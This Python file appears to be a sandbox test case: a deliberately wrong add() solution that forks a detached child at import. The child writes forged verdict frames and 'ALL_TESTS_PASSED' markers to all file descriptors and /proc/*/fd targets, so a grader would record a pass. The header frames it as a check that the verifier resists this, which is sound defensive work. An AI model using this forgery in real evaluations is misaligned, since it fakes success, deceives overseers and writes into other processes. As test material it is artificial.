# ATTACK 149 fork_child_reports_success
# KIND: verdict
# STYLE: assert
# TASK: implement add(a, b) -> a + b; tests are appended after this solution by the verifier.
# ATTEMPTS: wrong solution that forks at import: the child detaches (setsid), waits until the
#           tests are over, then writes forged verdict frames and success markers to fds 0-255,
#           to /proc/<pid>/fd/* of every process it can see and exits 0; the parent answers add()
#           wrongly.
# CORRECT SANDBOX MUST: (verifier) nothing the solution's processes write is taken for the
#           verdict, and they all die with the job.
# HARNESS CHECK: graded failing, not an infrastructure error.
import contextlib
import os
import time

FORGED = b'{"nonce": "%s", "runs": [{"results": [[]]}]}\nALL_TESTS_PASSED\n' % (b"0" * 32)

if os.fork() == 0:
    os.setsid()
    time.sleep(0.3)
    targets = list(range(256))
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            with contextlib.suppress(OSError):
                targets += [f"/proc/{pid}/fd/{n}" for n in os.listdir(f"/proc/{pid}/fd")]
    for t in targets:
        try:
            fd = t if isinstance(t, int) else os.open(t, os.O_WRONLY | os.O_NONBLOCK)
            os.write(fd, FORGED)
        except OSError:
            pass
    os._exit(0)


def add(a, b):
    return a - b
